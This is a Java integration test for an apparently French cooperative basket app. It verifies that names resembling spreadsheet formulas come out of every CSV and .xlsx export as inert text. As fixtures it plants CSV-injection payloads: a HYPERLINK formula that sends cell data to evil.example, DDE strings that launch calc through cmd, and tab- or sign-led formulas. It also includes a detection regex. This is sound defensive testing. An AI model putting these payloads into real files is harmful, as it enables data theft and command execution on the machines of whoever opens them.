package org.paniercommun.csv;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.ReadingOptions;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.paniercommun.Fixtures;
import org.paniercommun.TestAccounts;
import org.paniercommun.account.Role;
import org.paniercommun.catalogue.CatalogueFixtures;
import org.paniercommun.catalogue.ProducerView;
import org.paniercommun.catalogue.ProductView;
import org.paniercommun.closing.ClosingService;
import org.paniercommun.distribution.DistributionService;
import org.paniercommun.household.Household;
import org.paniercommun.ordering.OrderService;
import org.paniercommun.ordering.OrderService.LineCommand;
import org.paniercommun.round.Round;
import org.paniercommun.round.RoundService;
import org.paniercommun.round.RoundService.OfferCommand;
import org.paniercommun.round.RoundService.RoundCommand;
import org.paniercommun.round.RoundService.SlotCommand;

/**
 * Names that a spreadsheet would run as formulas (OWASP's CSV injection: a cell starting with = + - @, a tab or a
 * carriage return) come out of every export as text, in the CSV and in its .xlsx twin.
 */
@QuarkusTest
class ExportInjectionTest {

    /** A text cell a spreadsheet would read as a formula; a plain (French) number such as "-1,20" is not one. */
    private static final Pattern DANGEROUS = Pattern.compile("^[=+\\-@\\t\\r].*", Pattern.DOTALL);
    private static final Pattern NUMBER = Pattern.compile("^-?[0-9\\s\\u202f]*[0-9]+([,.][0-9]+)?$");

    @Inject
    Fixtures fixtures;

    @Inject
    CatalogueFixtures catalogue;

    @Inject
    RoundService rounds;

    @Inject
    OrderService orders;

    @Inject
    ClosingService closing;

    @Inject
    DistributionService distribution;

    @Inject
    TestAccounts accounts;

    @Test
    void everyExportKeepsFormulaLikeNamesAsText() throws IOException {
        Fixtures.Place place = fixtures.place();
        String tag = Fixtures.unique("");
        ProducerView producer = catalogue.producer(place.antenna().id, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")" + tag);
        ProductView product = catalogue.product(producer.id(), "+cmd|' /C calc'!A0" + tag, 200, 37,
                java.util.Set.of(place.group().id));
        Household household = fixtures.household(place, "@SUM(1+1)*cmd|' /C calc'!A0" + tag, 2);
        Household tabbed = fixtures.household(place, "\t=1+1" + tag, 1);

        Instant now = Instant.now();
        Round round = rounds.create(new RoundCommand(place.antenna().id, "-2+3 tournée" + tag,
                now.minusSeconds(3600), now.plusSeconds(7 * 86_400), List.of(place.group().id)));
        rounds.setOffer(round.id, List.of(new OfferCommand(product.id(), null)));
        rounds.setSlots(round.id, List.of(new SlotCommand(place.relayPoint().id, LocalDate.now().plusDays(1), "14 h")));
        rounds.open(round.id, now);
        long offerId = rounds.offers(round.id).get(0).id;
        orders.place(round.id, household.id, List.of(new LineCommand(offerId, new BigDecimal("15"))), null, now);
        orders.place(round.id, tabbed.id, List.of(new LineCommand(offerId, new BigDecimal("10"))), null, now);
        rounds.close(round.id, Instant.now());
        closing.confirm(round.id, Instant.now());
        long slotId = rounds.slots(round.id).get(0).id;

        String coordinator = accounts.create(Role.COORDINATOR);
        long antennaId = place.antenna().id;
        String funder = given().auth().preemptive().basic(coordinator, TestAccounts.PASSWORD).contentType(ContentType.JSON)
                .body(Map.of("name", "=1+1 Financeur" + tag)).post("/api/baskets/funders").then().statusCode(201)
                .extract().jsonPath().getString("id");

        List<String> exports = new ArrayList<>(List.of(
                "/api/households/export",
                "/api/products/export?antennaId=" + antennaId,
                "/tournees/" + round.id + "/listes/" + slotId + "/emargement",
                "/tournees/" + round.id + "/listes/" + slotId + "/preparation",
                "/tournees/" + round.id + "/bons-de-commande/" + producer.id(),
                "/tournees/" + round.id + "/bilan/releves/" + producer.id(),
                "/paniers/financeurs/" + funder + "/releve?mois=" + java.time.YearMonth.now()));
        // The funders' report reads distributed rounds: the relay point closes its day (nobody came).
        distribution.closeDay(round.id, slotId, "test", Instant.now());
        exports.add("/rapports/financeurs?antenne=" + antennaId + "&periode=annee&annee="
                + LocalDate.now().plusDays(1).getYear());

        List<String> problems = new ArrayList<>();
        int planted = 0;
        for (String export : exports) {
            String[] pathAndQuery = export.split("\\?", 2);
            String query = pathAndQuery.length > 1 ? "?" + pathAndQuery[1] : "";
            String csv = as(coordinator).get(pathAndQuery[0] + ".csv" + query).then().statusCode(200).extract()
                    .asString();
            planted += csv.contains(tag) ? 1 : 0;
            for (CSVRecord record : CSVFormat.DEFAULT.builder().setDelimiter(';').build()
                    .parse(new StringReader(csv.startsWith("\uFEFF") ? csv.substring(1) : csv))) {
                for (String cell : record) {
                    if (DANGEROUS.matcher(cell).matches() && !NUMBER.matcher(cell.strip()).matches()) {
                        problems.add(export + ".csv: " + cell);
                    }
                }
            }
            byte[] xlsx = as(coordinator).get(pathAndQuery[0] + ".xlsx" + query).then().statusCode(200).extract()
                    .asByteArray();
            try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx),
                    new ReadingOptions(true, false))) {
                for (Row row : workbook.getFirstSheet().read()) {
                    for (Cell cell : row) {
                        if (cell != null && cell.getType() == CellType.STRING
                                && DANGEROUS.matcher(cell.getText()).matches()) {
                            problems.add(export + ".xlsx: " + cell.getText());
                        }
                        if (cell != null && cell.getType() == CellType.FORMULA) {
                            problems.add(export + ".xlsx: formula " + cell.getRawValue());
                        }
                    }
                }
            }
        }
        assertEquals(List.of(), problems);
        assertTrue(planted >= 7, "the planted names are in the exports (" + planted + " of " + exports.size() + ")");
    }

    private static RequestSpecification as(String login) {
        return given().auth().preemptive().basic(login, TestAccounts.PASSWORD);
    }
}
